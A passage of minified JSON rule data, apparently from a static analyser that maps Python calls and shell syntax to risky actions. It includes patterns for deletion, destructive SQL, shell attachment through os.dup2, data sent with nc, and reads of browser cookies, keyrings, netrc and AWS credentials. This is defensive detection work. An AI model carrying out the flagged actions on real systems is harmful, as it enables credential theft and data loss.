-d[\\\\da-f])[-+ #0'^:_<>|\\\\d.]*(?:[Cw]?\\\\([^)]*\\\\)|\\\\{[^}]*\\\\}|[acCGg]?[A-Za-z])|%","g"],"jq_text":["\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"","g"],"jq_interpolation":["\
-\\\\\\\\\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)","g"],"long_line_separator":["\\\\\\\\[\\\\s\\\\S]|'[^']*(?:'|$)|\\"(?:\\\\\\\\[\\\\s\\\\S]|[^\\"\\\\\\\\])*(?:\\"|$)|(?<![^\\\\s])#.*|[\\\\n;]|(?<!=)\\\\(\
-(?!\\\\))|(?<!\\\\()\\\\)|(?<!>)&(?!>)","g"],"long_line_prefix":["^(?:(?:if|then|elif|else|do|while|until|time|!|\\\\{)\\\\s+|\\\\(\\\\s*)+"],"here_document":["(<<-?[ \\\\t]*(?\
-:\\\\\\\\|'|\\")?(\\\\w+)[^\\\\n]*)(?:\\\\n(?:(?:[\\\\s\\\\S]*?\\\\n)?[ \\\\t]*\\\\2[ \\\\t]*(?=\\\\n|$)|[\\\\s\\\\S]*)|$)","g"],"always_true":["^(?:(?:\\\\/usr)?(?:\\\\/bin\\\\/)?true|:|\\\\[ (?:1\
-|true|x) \\\\]|test 1|echo.*)$"],"always_false":["^(?:\\\\/bin\\\\/)?false$"],"deleting_call":["\\\\b(?:rm_rf|remove\\\\w*|unlink|delete\\\\w*|RemoveAll|execute|system)\\\\b"\
-],"generated_statement":["'\\\\s*((?:drop|truncate|delete|alter|revoke|grant)\\\\s[^']*)'","gi"],"package_runner":["^(npx|bunx|pnpx|uvx|npm|pnpm|yarn|bun)$"],"host"\
-:["^(?:[a-z][a-z0-9+.-]*:\\\\/\\\\/)?(?:[^/@\\\\s]*@)?(\\\\[[0-9a-f:]+\\\\]|[A-Za-z0-9.-]+)(?::\\\\d+)?(?:[/?#:].*)?$"],"whole_folder":["^(\\\\*+|\\\\.\\\\*|\\\\?\\\\*|\\\\.\\\\[[!^]\\\\.\\\
-\\]\\\\*?|\\\\.\\\\?\\\\?\\\\*|\\\\{\\\\*,\\\\.\\\\*\\\\}|\\\\*\\\\.\\\\*|!\\\\(.*\\\\))$"],"making_word":["^(?:create|start|up|init|declare|add|run|new|mb|update-ref)$|^--create$"],"referrin\
-g_word":["^(?:remote|context|config.*)$"],"name_maker":["^(?:volume|network) create$"],"new_folder":["^/tmp/tmp[.]\\\\uFFFC(?:/(?!\\\\.\\\\.)[\\\\w.-]+)*$"],"obligation\
-":["(?:needs? to|should|must|has to|have to|(?:is|are) to) be(?: \\\\w+ly)?$"],"list_item":["^[ \\\\t]*(?:[-*+\\u2022\\u2013]|\\\\(?\\\\d{1,3}[.):]|\\\\(?[a-z][.)]|\\\\[[ x]\\\
-\\]|step \\\\d{1,3}[:.)-]?)[ \\\\t]+(?:\\\\[[ x]\\\\][ \\\\t]+)?","i"],"heading":["^[ \\\\t]{0,3}#{1,6}[ \\\\t]+"],"code_fence":["^[ \\\\t]*(\`{3,}|~{3,})[ \\\\t]*([\\\\w+-]*)"],"pro\
-mpt":["^[ \\\\t]*\\\\$[ \\\\t]+(?=\\\\S)"],"text_word":["(\`{1,2})([^\`\\\\n]{1,2000}?)\\\\1|(?<![\\\\w])[\\"\\u201c]([^\\"\\u201d\\\\n]{1,400})[\\"\\u201d]|(?<![\\\\w])'([^'\\\\n]{1,200})\
-'(?!\\\\w)|[^\\\\s\`\\"\\u201c\\u201d,;:()!?\\u2014]+(?:[:!?][^\\\\s\`\\"\\u201c\\u201d,;()!?\\u2014]+)*|[,;:()!?\\u2014]","gu"],"code_space":["[ \\\\t\\\\r\\\\f\\\\v\\\\\\\\\\\\u00a0]+","y"]\
-,"code_name":["[\\\\p{L}_][\\\\p{L}\\\\p{N}_]*[?!]?","uy"],"code_number":["0[xX][\\\\da-fA-F_]+|0[oO]?[0-7_]+(?![.\\\\d])|0[bB][01_]+|\\\\d[\\\\d_]*(?:\\\\.\\\\d+)?(?:[eE][+-]?\\\\\
-d+)?","y"],"code_mark":["\\\\.\\\\.\\\\.|[=!]==|<=>|(?:\\\\*\\\\*|<<|>>|\\\\|\\\\||&&|\\\\?\\\\?|[-+*/.%|&^=!<>:])=|[-=]>|=~|\\\\?\\\\.|([:&|?+<>*.-])\\\\1|\\\\S","uy"],"continuing_mark"\
-:["^(?:[.,+*/%&|=<>?:([-]|=>|->|\\\\?\\\\.|&&|\\\\|\\\\||\\\\?\\\\?|\\\\+=|\\\\.\\\\.\\\\.|==|===|::)$"],"continued_mark":["^(?:\\\\.|\\\\?\\\\.|->|&&|\\\\|\\\\||\\\\?\\\\?|\\\\+|\\\\?|:|\\\\.\\\\.\\\\.)$\
-"],"escape":["\\\\\\\\(?:x([\\\\da-fA-F]{2})|u([\\\\da-fA-F]{4})|u\\\\{([\\\\da-fA-F]{1,6})\\\\}|([0-7]{1,3})|(\\\\n)|(.))","gsu"],"quote":["(?<close>['\\"\`])","y"],"prefixed_qu\
-ote":["(?<prefix>[rbfuRBFUtT]{0,2})(?<close>'''|\\"\\"\\"|'|\\")","y"],"quoting_q":["(qq|qx|qw|qr|q|m|tr|y|s)([^\\\\w\\\\s,;=>)]|\\\\s+[{([<|/!])","y"],"quoting_percent":\
-["(%[wWiIqQxr]?)([({[<|!/])","y"],"quoting_none":["(?!)","y"],"heredoc_perl":["<<~?(?:\\"(\\\\w+)\\"|'(\\\\w+)'|([A-Z_]\\\\w*))","y"],"heredoc_php":["<<<[ \\\\t]*(?:\\"(\\\\\
-w+)\\"|'(\\\\w+)'|(\\\\w+))","y"],"heredoc_ruby":["<<[~-]?(?:\\"(\\\\w+)\\"|'(\\\\w+)'|([A-Z_]\\\\w*))","y"],"input_line":["<\\\\$?\\\\w*>","y"],"slashed_pattern":["/(?:\\\\\\\\.|\\\\\
-[(?:\\\\\\\\.|[^\\\\]\\\\\\\\\\\\n]){0,300}\\\\]|[^/\\\\\\\\[\\\\n]){0,300}/[a-z]*","y"],"opening_f_string":["\\\\{(?!\\\\{)","y"],"opening_template":["\\\\$\\\\{","y"],"opening_hash":["#\\\
-\\{","y"],"opening_dollar":["\\\\{(?=\\\\$)|@\\\\{(?=\\\\[)","y"],"opening_none":["(?!)","y"],"dollar_name":["(@ARGV)|\\\\$(?:\\\\{(\\\\w+)\\\\}|(\\\\w+)(?:->\\\\w+)?)(\\\\[[^\\\\]\\\\n]{\
-0,40}\\\\]|\\\\{[^}\\\\n]{0,40}\\\\})?","y"],"table_deed":["^(?:drop-table|truncate|delete-all|update-all)$"],"temporary":["^TEMP(?:ORARY)?$"],"no_rows":["\\\\b(?:LIMIT 0\
-|WHERE \\\\(* ?(?:FALSE|0|1 = [02]|0 = 1|1 < > 1))(?! ?[\\\\w=<>.])","i"],"true_condition":["^(?:.*\\\\bor *)?(?:\\\\(* *)(?:1|true|'?(\\\\w+)'? *= *'?\\\\1'?|1 *< *2|not f\
-alse)(?: *\\\\)*)$","i"],"client_command":["(?:\\\\\\\\!|\\\\.shell|\\\\.system|system)[ \\\\t]+(?<shell>.*)|\\\\\\\\(?:copy|o|w|g)\\\\w*[ \\\\t]*(?:\\\\|[ \\\\t]*(?<piped>.*)|(?:.{0,4\
-000}?\\\\b(?:program|PROGRAM)[ \\\\t]+'(?<program>(?:[^'\\\\n]|'')*)')?.*)","y"],"sql_token":["\\\\s+|--[^\\\\n]*|#(?=\\\\s|$)[^\\\\n]*|/\\\\*!\\\\d*|/\\\\*[\\\\s\\\\S]*?(?:\\\\*/|$)|\\\\*\
-/|(?<quote>['\\"\\\\x60])(?<quoted>(?:(?!\\\\k<quote>)[\\\\s\\\\S]|\\\\k<quote>\\\\k<quote>)*)\\\\k<quote>?|\\\\[(?<name>[^\\\\]]*)\\\\]?|\\\\$(?<tag>\\\\w*)\\\\$(?<text>[\\\\s\\\\S]*?)(?:\\\\$\
-\\\\k<tag>\\\\$|$)|(?<word>[\\\\p{L}_@#$][\\\\p{L}\\\\p{N}_$#]*|\\\\d[\\\\w.]*)|(?<mark>[\\\\s\\\\S])","uy"],"loop_variable":["\\\\bfor(?:each)?[\\\\s(]{0,20}(?:await[\\\\s(]{1,9})?(?:\
-(?:const|let|var|my)\\\\s{1,9})?\\\\(?([\\\\w$, ]{1,100}?)\\\\)?\\\\s{1,9}(?:in|of)\\\\b|\\\\b(\\\\w[\\\\w, ]{0,99})\\\\)?\\\\s{0,9}=>|\\\\|\\\\s*(\\\\w[\\\\w, ]*)\\\\||\\\\bas\\\\s+\\\\$?(\\\\w+)|\\\\b\
-lambda\\\\s+(\\\\w+)","g"],"test_clause":["\\\\b(?:if|elif|unless|filter|fnmatch|grep|select|reject|when)\\\\b([^\\\\n;{]{0,300})","g"],"tested_ending":["[\\"']\\\\.([\\\\w.]{\
-1,12})[\\"']|\\\\\\\\\\\\.(?:\\\\(\\\\??:?)?([\\\\w|.\\\\\\\\]{1,60})\\\\)?\\\\$","g"],"tested_name":["(\\\\w+)(?:\\\\.name)?\\\\s*={2,3}\\\\s*[\\"']([\\\\w.-]+)[\\"']","g"],"known_command":["^\
-(?![\\\\s\\\\S]*(?:^|[;&|\\\\n(\`{!]\\\\s*|\\\\b(?:sudo|doas|env|exec|eval|then|do|else|time|nohup|nice|xargs|\\\\w*sh|-c)\\\\s+|\\\\w=\\\\S*\\\\s+)['\\"]?\\\\u{FFFC})\\\\s*[\\\\w./-]","u"\
-],"deletes":["^\\\\s*(?:sudo\\\\s+)?(?:rm|truncate|shred)\\\\s"],"below_new_folder":["^/tmp/(?:tmp[.])?\\\\u{FFFC}/","u"],"new_path":["^/tmp/(?:tmp\\\\.)?\\\\uFFFC(?=/|$)"]\
-,"peer_parameter":["^(?:req|request|reader|ctx)$"],"class_name":["^[A-Z]\\\\w*$"],"program_call":["^(?:sh|plumbum\\\\.cmd)\\\\.(\\\\w+)(?:\\\\.bake)?$"],"text_method":["^\
-(?:str|bytes)\\\\.([lr]?strip|lower|upper|r?split|splitlines|encode|decode)$"],"own_method":["^(?:self|this|\\\\$this)\\\\.(\\\\w+)$"],"static_method":["^(?:self|this|[\
-A-Z]\\\\w*)\\\\.(\\\\w+)$"],"true_or_false":["^(?:True|False|true|false)$"],"entry_path":["^((?:.*/)?)(?:\\\\*|\\\\u{FFFC}+\\\\u{FFF9}?|\\\\*?\\\\.?[\\\\w.-]+)$","su"],"uses_argu\
-ments":["arg|shift|\\\\$[1-9*@]","i"],"uses_environment":["env","i"],"uses_input":["stdin|input|gets|readline|<>|\\\\$_|\\\\$<|readfile|read\\\\(|argf|ARGV|\\\\$\\\\d|getli\
-ne|print","i"]},"texts":{"XML or HTML":["^\\\\s*<(!doctype|\\\\?xml|[a-z][\\\\w-]*(\\\\s[^>]*)?>)","i"],"Markdown":["^\\\\s*(\`\`\`|#{1,6} \\\\S|\\\\||[-*] \\\\S)|\\\\n\`\`\`"],"a log"\
-:["^\\\\s*(\\\\[?\\\\d{4}-\\\\d\\\\d-\\\\d\\\\d[T ]|Traceback \\\\(most recent|\\\\w*Error: )|\\\\n\\\\s+at \\\\S+ \\\\("],"a sentence":["^\\\\s*\\\\p{Lu}[\\\\p{L}'\\u2019]*[, ]\\\\s*\\\\p{L}[^\\\\n]\
-*[.!?:)](\\\\s|$)","u"]}},"languages":{"languages":{"python":{"lexer":{"comment":["#"],"sigils":"","interpolation":"f_string","triple":true,"single_escapes":true,\
-"quoting":"none","patterns":false,"lines":"indent"},"program":"python3","blocks":"indent","member_operators":["."],"concatenation_operators":[],"bare_calls":fal\
-se,"function_keywords":["def"],"inputs":{"sys.argv":"argv","os.environ":"environment","sys.stdin":"lines","flask.request.args":"peer","flask.request.form":"peer\
-","flask.request.data":"peer","flask.request.json":"peer","flask.request.values":"peer","flask.request.headers":"peer","bottle.request.query":"peer","bottle.req\
-uest.forms":"peer","bottle.request.body":"peer","self.rfile":"peer"},"sdks":["boto3.","botocore.session.","botocore.client.","aiobotocore.","aioboto3.","google.\
-cloud.","googleapiclient.","firebase_admin.","azure.","kubernetes.","openshift.","digitalocean.","pydo.","hcloud.","linode_api4.","oci.","openstack.","libcloud.\
-","stripe.","github.Github","gitlab.","heroku3.","cloudflare.","CloudFlare.","elasticsearch.","opensearchpy.","minio.","hvac.","pinecone.","qdrant_client.","wea\
-viate.","pymilvus.","algoliasearch.","meilisearch.","typesense.","confluent_kafka.","kafka.","pulsar.","auth0.","okta.","shopify.","twilio.","sendgrid.","supaba\
-se.","appwrite.","contentful_management.","huggingface_hub.","wandb.","mlflow.","comet_ml.","slack_sdk.","slack.","pyVmomi.","proxmoxer.","vercel.","netlify.","\
-tencentcloud.","aliyunsdk","alibabacloud","openai.","influxdb_client.","datadog_api_client.","pulumi.","pagerduty.","pdpyras.","jira.","atlassian.","notion_clie\
-nt.","asana.","replicate.","pyairtable.","zenpy.","kr8s.","lightkube.","gspread.","ldap3.","etcd3.","kazoo.","asyncssh.","pysftp.","smbclient.","dropbox.","clou\
-dinary.","mailchimp_marketing.","intercom.","pyzenodo.","trello.","praw.","tweepy.","boxsdk.","msgraph.","exchangelib.","simple_salesforce.","hubspot."],"texts"\
-:{"stat.S_ISUID":"u+s","stat.S_ISGID":"g+s","sys.executable":"python3","os.sep":"/","os.curdir":".","os.pardir":"..","__file__":"./program.py","string.ascii_low\
-ercase":"abcdefghijklmnopqrstuvwxyz"},"aliases":{"posix.system":"os.system","nt.system":"os.system","io.open":"open","codecs.open":"open","Path":"pathlib.Path",\
-"subprocess.os.system":"os.system","urllib2.urlopen":"urllib.request.urlopen","urllib.urlopen":"urllib.request.urlopen","urllib.urlretrieve":"urllib.request.url\
-retrieve","pd.read_csv":"pandas.read_csv"},"rewrites":[["^(?:builtins|__builtins__|os\\\\.sys\\\\.modules|sys\\\\.modules|six\\\\.moves)\\\\.|\\\\.__dict__|\\\\.__call__$",""\
-],["^Path(?=\\\\.)","pathlib.Path"],["^mock\\\\.(?=\\\\w)","unittest.mock."],["^moto\\\\.(?:\\\\w+\\\\.)?mock_\\\\w+$","moto.mock_aws"],["^aiofiles\\\\.(?=os\\\\.|open$)",""],["^\
-aioshutil\\\\.","shutil."],["^(?:(?:anyio|trio)\\\\.Path|aiopath\\\\.AsyncPath)(?=\\\\.|$)","pathlib.Path"]],"functions":{"print":"print","sys.stdout.write":"print text\
-","input":"input","raw_input":"input","open":"open $0:file $1:mode","os.remove":"run rm $0:path","os.unlink":"run rm $0:path","pathlib.Path.unlink":"run rm $0:p\
-ath","os.rmdir":"run rmdir $0:path","pathlib.Path.rmdir":"run rmdir $0:path","os.removedirs":"run rmdir -p $0:name","shutil.rmtree":"run rm -rf $0:path","send2t\
-rash.send2trash":"run rm -rf $0","plyvel.destroy_db":"run rm -rf $0","os.rename":"run mv $0:src $1:dst","os.replace":"run mv $0:src $1:dst","os.renames":"run mv\
- $0:src $1:dst","shutil.move":"run mv $0:src $1:dst","shutil.copy":"run cp $0:src $1:dst","shutil.copy2":"run cp $0:src $1:dst","shutil.copyfile":"run cp $0:src\
- $1:dst","shutil.copytree":"run cp -r $0:src $1:dst","os.link":"run ln $0 $1","os.symlink":"run ln -s $0 $1","os.truncate":"run truncate -s 0 $0","os.mkfifo":"r\
-un mkfifo $0","os.mknod":"run mknod $0","os.chmod":"chmod $0:path $1:mode","os.chown":"run chown $1:uid:user $0:path","os.lchown":"run chown $1:uid:user $0:path\
-","shutil.chown":"run chown $1:uid:user $0:path","os.open":"open $0 $1 flags","tempfile.NamedTemporaryFile":"made written /tmp/temporary","os.system":"shell $0:\
-command:cmd","os.popen":"shell $0:command:cmd","commands.getoutput":"shell $0:command:cmd","asyncio.create_subprocess_shell":"shell $0:command:cmd","asyncio.cre\
-ate_subprocess_exec":"program $all","pty.spawn":"attach-shell $0 | program $0","pexpect.spawn":"shell $0:args:command:cmd $:input:stdin","pexpect.run":"shell $0\
-:args:command:cmd $:input:stdin","subprocess.run":"shell $0:args:command:cmd $:input:stdin","subprocess.call":"shell $0:args:command:cmd $:input:stdin","subproc\
-ess.check_call":"shell $0:args:command:cmd $:input:stdin","subprocess.check_output":"shell $0:args:command:cmd $:input:stdin","subprocess.Popen":"shell $0:args:\
-command:cmd $:input:stdin","subprocess.getoutput":"shell $0:args:command:cmd $:input:stdin","subprocess.getstatusoutput":"shell $0:args:command:cmd $:input:stdi\
-n","os.execl":"execute $0 $1..","os.execlp":"execute $0 $1..","os.execle":"execute $0 $1..","os.execlpe":"execute $0 $1..","os.execv":"execute $0 $1..","os.exec\
-vp":"execute $0 $1..","os.execve":"execute $0 $1..","os.execvpe":"execute $0 $1..","os.posix_spawn":"execute $0 $1..","os.spawnl":"execute $1 $2..","os.spawnlp"\
-:"execute $1 $2..","os.spawnle":"execute $1 $2..","os.spawnlpe":"execute $1 $2..","os.spawnv":"execute $1 $2..","os.spawnvp":"execute $1 $2..","os.spawnve":"exe\
-cute $1 $2..","os.spawnvpe":"execute $1 $2..","sh.Command":"made program","os.dup2":"attach-shell /bin/sh | value","os.kill":"kill $0 $1","os.killpg":"kill $0 $\
-1 group","psutil.Process":"made psutil.Process","psutil.process_iter":"entries any-process","psutil.pids":"entries","os.listdir":"names $0","os.fork":"if-sign:r\
-epeats run fork","os.setuid":"run setuid $last","os.seteuid":"run setuid $last","os.setresuid":"run setuid $last","os.setgid":"run setgid $last","os.chroot":"ru\
-n chroot $0","ctypes.CDLL":"made library","exec":"eval $0","eval":"eval $0","fileinput.input":"if-no-sign:writes if-option:inplace=True run truncate -s 0 $0:fil\
-es | read $0","flask.request.get_json":"received","flask.request.get_data":"received","urllib.parse.parse_qs":"received","urllib.parse.parse_qsl":"received","cg\
-i.FieldStorage":"received","psutil.net_connections":"run lsof -i","os.write":"send $0 $1","execfile":"read $0","linecache.getlines":"read $0","numpy.loadtxt":"r\
-ead $0","pandas.read_csv":"read $0","pandas.read_json":"read $0","dotenv.dotenv_values":"read $0","envparse.env.read_envfile":"read $0","importlib.util.spec_fro\
-m_file_location":"run python3 $1","runpy.run_path":"run python3 $0","pickle.load":"load $0","pickle.loads":"load $0","dill.load":"load $0","dill.loads":"load $0\
-","joblib.load":"load $0","torch.load":"load $0","marshal.loads":"load $0","zipfile.ZipFile":"made archive $0","tarfile.open":"open $0:file:name $1:mode","gzip.\
-open":"open $0:file:name $1:mode","bz2.open":"open $0:file:name $1:mode","lzma.open":"open $0:file:name $1:mode","shelve.open":"made store $0","dbm.open":"made \
-store $0","lmdb.open":"made store $0","plyvel.DB":"made store $0","diskcache.Cache":"made store $0","h5py.File":"made store $0","zarr.open":"made store $0","zar\
-r.open_group":"made store $0","tinydb.TinyDB":"made store $0","twine.commands.upload.main":"run twine upload x","twine.commands.upload.upload":"run twine upload\
- x","configparser.ConfigParser":"made config","configparser.RawConfigParser":"made config","sqlalchemy.update":"made whole-update","sqlalchemy.sql.update":"made\
- whole-update","crontab.CronTab":"if-option:tab if-no-sign:installs-cron made mock | made crontab","secretstorage.get_default_collection":"run secret-tool looku\
-p x","secretstorage.get_all_collections":"run secret-tool lookup x","secretstorage.search_items":"run secret-tool lookup x","browser_cookie3.chrome":"run secret\
--tool lookup x","browser_cookie3.firefox":"run secret-tool lookup x","browser_cookie3.edge":"run secret-tool lookup x","browser_cookie3.load":"run secret-tool l\
-ookup x","dulwich.porcelain.push":"if-option:force=True run git push --force","dulwich.porcelain.reset":"if-says:hard$|Hard$|HARD$ run git reset --hard","git_fi\
-lter_repo.RepoFilter":"run git filter-repo --force","git.Head.delete":"if-option:force=True run git branch -D","os.fdopen":"value $0","psycopg.sql.SQL":"value $\
-0","psycopg2.sql.SQL":"value $0","sql.SQL":"value $0","asyncio.wait_for":"value $0","vars":"value $0","os.path.expanduser":"value $0","text":"value $0","sqlalch\
-emy.text":"value $0","staticmethod":"value $0","classmethod":"value $0","asyncio.gather":"value $0..","__import__":"module $0","importlib.import_module":"module\
- $0","getattr":"attribute $0 $1","enumerate":"numbered $0","dotenv.set_key":"write $0 $1","dotenv.unset_key":"write $0 $1","next":"any-of $0","zip":"rows","iter\
-tools.zip_longest":"rows","itertools.chain":"flat","itertools.chain.from_iterable":"flat $0","operator.attrgetter":"value","globals":"name builtins","functools.\
-partial":"made bound $0 $1..","git.Repo":"made git $0","git.repo.Repo":"made git $0","git.Repo.init":"made git $0","git.Repo.clone_from":"made git $0","pygit2.R\
-epository":"made git $0","pygit2.init_repository":"made git $0","unittest.mock.MagicMock":"mock","unittest.mock.AsyncMock":"mock","unittest.mock.Mock":"mock","u\
-nittest.mock.NonCallableMock":"mock","unittest.mock.create_autospec":"mock","unittest.mock.mock_open":"mock","OSError":"made error","IOError":"made error","File\
-NotFoundError":"made error","PermissionError":"made error","RuntimeError":"made error","ValueError":"made error","KeyError":"made error","TypeError":"made error\
-","TimeoutError":"made error","ConnectionError":"made error","Exception":"made error","subprocess.CalledProcessError":"made error","subprocess.TimeoutExpired":"\
-made error","unittest.mock.patch":"patcher $0:target $1:new","unittest.mock.patch.object":"patcher $0:target $1:attribute $2:new","setattr":"imitate $0 $1 $2","\
-pytest.MonkeyPatch":"made monkeypatch","moto.mock_aws":"if-no-sign:keeps-real if-no-sign:other-imports patcher services","botocore.stub.Stubber":"if-no-sign:kee\
-ps-real if-no-sign:other-imports if-no-sign:several-clients patcher services","responses.activate":"if-no-sign:keeps-real if-no-sign:other-requests patcher requ\
-ests","responses.RequestsMock":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","requests_mock.Mocker":"if-no-sign:keeps-real if-no-sign:other\
--requests patcher requests","requests_mock.mock":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","respx.mock":"if-no-sign:keeps-real if-no-si\
-gn:besides-httpx patcher requests","pyfakefs.fake_filesystem_unittest.Patcher":"if-no-sign:keeps-real if-no-sign:other-files patcher files","fsspec.filesystem":\
-"if-says:^memory$ made mock","operator.methodcaller":"made message $0 $1..","string.Template":"made template $0","email.message.EmailMessage":"made mail","email\
-.mime.text.MIMEText":"made mail","email.mime.multipart.MIMEMultipart":"made mail","keyring.get_password":"secret","keyring.get_credential":"secret","netrc.netrc\
-":"secret","dict":"from-pairs $0","huggingface_hub.scan_cache_dir":"made mock","httpx.MockTransport":"made mock","chromadb.EphemeralClient":"made mock","sqlalch\
-emy.create_mock_engine":"made mock","duckdb.connect":"if-none made database :memory: | made database $0:database","shlex.split":"split $0","json.loads":"parse-j\
-son $0","tempfile.mktemp":"value /tmp/\\ufffc","tempfile.mkdtemp":"new-folder","tempfile.TemporaryDirectory":"new-folder","sqlalchemy.delete":"made whole","sqlal\
-chemy.sql.delete":"made whole","sqlalchemy.sql.expression.delete":"made whole","alembic.command.downgrade":"run alembic downgrade $1:revision","invoke.run":"she\
-ll $0","os.path.join":"join $all","pathlib.Path":"join $all","pathlib.PosixPath":"join $all","pathlib.Path.home":"value ~","pathlib.Path.cwd":"value .","os.getc\
-wd":"value .","os.getenv":"environment $0 $1:default","os.environ.get":"environment $0 $1:default","os.environ.copy":"environment $0 $1:default","os.path.dirnam\
-e":"dirname $0","tempfile.mkstemp":"temporary-pair","os.walk":"walk $0","os.scandir":"folder $0","glob.glob":"glob $0","glob.iglob":"glob $0","codecs.decode":"d\
-ecode $0 $1","shutil.make_archive":"run tar -cf $0 $2:root_dir","socket.create_connection":"connect $all","sqlite3.connect":"made database $0","socket.socket":"\
-made socket","socket.gethostbyname":"run nslookup $0","dns.resolver.resolve":"run nslookup $0","dns.resolver.query":"run nslookup $0","smtplib.SMTP":"made conne\
-ction","smtplib.SMTP_SSL":"made connection","ftplib.FTP":"made connection","ftplib.FTP_TLS":"made connection","httpx.Client":"made rest $:base_url","httpx.Async\
-Client":"made rest $:base_url","paramiko.SFTPClient.from_transport":"made sftp","site.getusersitepackages":"value ~/.local/lib/python3/site-packages","paramiko.\
-Transport":"made ssh","paramiko.SSHClient":"made ssh","fabric.Connection":"made ssh","fabric.SerialGroup":"made ssh","fabric.ThreadingGroup":"made ssh","invoke.\
-Context":"made ssh","http.client.HTTPSConnection":"made http","http.client.HTTPConnection":"made http","urllib.request.urlopen":"request GET $0:url $1:data","ur\
-llib.request.Request":"if-option:method open-request $:method $0:url $1:data | made request $0:url $1:data","urllib.request.urlretrieve":"run curl -o $1 $0","re\
-quests.request":"request $0 $1:url $:data $:json $:files $:content","requests.get":"request GET $0:url $:data $:json $:files $:content $:params","httpx.get":"re\
-quest GET $0:url $:data $:json $:files $:content $:params","requests.post":"request POST $0:url $1 $:data $:json $:files $:content $:params","httpx.post":"reque\
-st POST $0:url $1 $:data $:json $:files $:content $:params","requests.put":"request PUT $0:url $1 $:data $:json $:files $:content $:params","httpx.put":"request\
- PUT $0:url $1 $:data $:json $:files $:content $:params","requests.patch":"request PATCH $0:url $1 $:data $:json $:files $:content $:params","httpx.patch":"requ\
-est PATCH $0:url $1 $:data $:json $:files $:content $:params","requests.delete":"request DELETE $0:url $1 $:data $:json $:files $:content $:params","httpx.delet\
-e":"request DELETE $0:url $1 $:data $:json $:files $:content $:params","requests.head":"request HEAD $0:url $1 $:data $:json $:files $:content $:params","httpx.\
-head":"request HEAD $0:url $1 $:data $:json $:files $:content $:params","requests.Session":"name requests","requests.session":"name requests","aiohttp.ClientSes\
-sion":"name requests","winreg.DeleteKey":"run reg delete $1","django.core.management.call_command":"run django-admin $0","call_command":"run django-admin $0","n\
-umpy.save":"write $1","torch.save":"write $1","joblib.dump":"write $1"},"methods":{"splitlines":"if-text split $self \\n","reset":"if-made:git if-says:hard$|Hard\
-$|HARD$ run git reset --hard | if-git if-option:working_tree=True run git reset --hard","to_sql":"if-kept if-sign:database-address if-option:if_exists=replace r\
-un sql drop-table $0","push":"if-option:dry_run value | if-option:force=True if-git run git push --force origin | if-option:force=True if-owner:^(origin|remotes\
-|remote)\\\\b|\\\\.remotes?\\\\b run git push --force origin | if-option:refspec run git push origin $:refspec","remove_volume":"run docker volume rm $0","prune_volum\
-es":"run docker volume prune -af","delete_head":"if-git if-option:force=True run git branch -D","remote":"if-git value $self","delete_tag":"if-git run git tag -\
-d","checkout_head":"if-git if-arg:list run git checkout -- $0 | if-git if-says:FORCE|^True$ run git checkout -f","checkout_index":"if-git if-arg:list run git ch\
-eckout -- $0 | if-git if-says:FORCE|^True$ run git checkout -f","checkout":"if-git if-arg:list run git checkout -- $0 | if-git if-says:FORCE|^True$ run git chec\
-kout -f","put":"if-made:sftp run scp -r $0 host:/x","new":"if-made:crontab run crontab -","write":"if-made:crontab run crontab - | if-made:archive read $0 | sen\
-d $self $0","write_to_user":"if-made:crontab run crontab -","unlink":"if-made:library run rm $0 | if-gets:keys run sql flush FLUSHDB | if-made:sftp run cloud-sd\
-k delete | run rm $self","remove":"if-made:library run rm $0 | if-made:sftp run cloud-sdk delete | if-made:docker-volume run docker volume rm $self","rmdir":"if\
--made:library run rm $0 | if-made:sftp run cloud-sdk delete | run rmdir $self","add":"if-made:written read $0 | if-list append $self $all","get_frozen_credentia\
-ls":"run aws configure export-credentials","PowerOff":"run shutdown now","execute_command":"if-stored program redis-cli $all","filter":"if-name:objects made som\
-e-rows","exclude":"if-name:objects made some-rows","delete":"if-made:some-rows run sql delete-some rows | if-gets:keys run sql flush FLUSHDB | if-made:connectio\
-n run cloud-sdk delete | if-made:rest request-over DELETE $0 | if-git if-owner:^(references|branches|local|heads|tags)$ run git update-ref -d refs/heads/x","upd\
-ate":"if-made:some-rows run sql delete-some rows | if-name:objects run sql update-all rows | if-made:rows run sql update-all rows | if-list append $self $all","\
-rmd":"if-made:connection run cloud-sdk delete","open_sftp":"if-made:ssh made sftp","rm":"if-option:recursive=True run cloud-sdk delete","run":"if-made:ssh shell\
- $0 | if-name:containers docker-run | sql $0:query:sql","sudo":"if-made:ssh shell $0","scan_iter":"if-stored entries keys","keys":"if-stored entries keys","scan\
-":"if-stored entries keys","rmtree":"run rm -rf $self","read_text":"read $self","read_bytes":"read $self","write_text":"write $self $0:data","write_bytes":"writ\
-e $self $0:data","chmod":"chmod $self $0:mode","walk":"if-text walk $self","read":"if-made:config read $0 | lines $self","set_content":"if-made:mail transfer se\
-ndmail $0 x","attach":"if-made:mail transfer sendmail $0 x","add_attachment":"if-made:mail transfer sendmail $0 x","substitute":"if-made:template format $origin\
-","safe_substitute":"if-made:template format $origin","values":"if-made:whole-update value $self | if-map values $self","execution_options":"if-made:whole-updat\
-e value $self","append":"if-list append $self $all","appendleft":"if-list append $self $all","extend":"if-list append $self $all","insert":"if-list append $self\
- $all","create":"if-name:containers docker-run","touch":"if-text run touch $self","rename":"if-text run mv $self $0","replace":"if-text if-args:2 replace $self \
-$0 $1 | if-text if-args:1 run mv $self $0","symlink_to":"run ln -s $0 $self","open":"if-text open $self $0:mode","writelines":"send $self $0","send":"send $self\
- $0","sendall":"send $self $0","sendfile":"send $self $0","recv":"received","recvfrom":"received","recv_string":"received","recv_multipart":"received","makefile\
-":"received","communicate":"send $self $0:input | value $self","readlines":"value $self","expanduser":"value $self","resolve":"value $self","absolute":"value $s\
-elf","as_posix":"value $self","readline":"any-of $self","text":"value $0","glob":"glob $self $0","rglob":"glob $self ** $0","iterdir":"folder $self","connect":"\
-if-made connect $all","connect_ex":"connect $all","sendto":"transfer nc $0 $1","sendmail":"if-made transfer sendmail $2 $self","send_message":"if-made transfer \
-sendmail $0 $self","storbinary":"if-made transfer ftp $1 $self","request":"request-over $0 $1 $2 $:body $:data $:json","exec_command":"shell $0","system":"if-ma\
-de:library shell $0","kill":"if-made:any-process if-chosen kill $self | if-made:any-process run pkill -KILL $:pid | if-made:psutil.Process run kill -KILL $origi\
-n","terminate":"if-made:any-process if-chosen kill $self | if-made:any-process run pkill -TERM $:pid | if-made:psutil.Process run kill -TERM $origin","execute":\
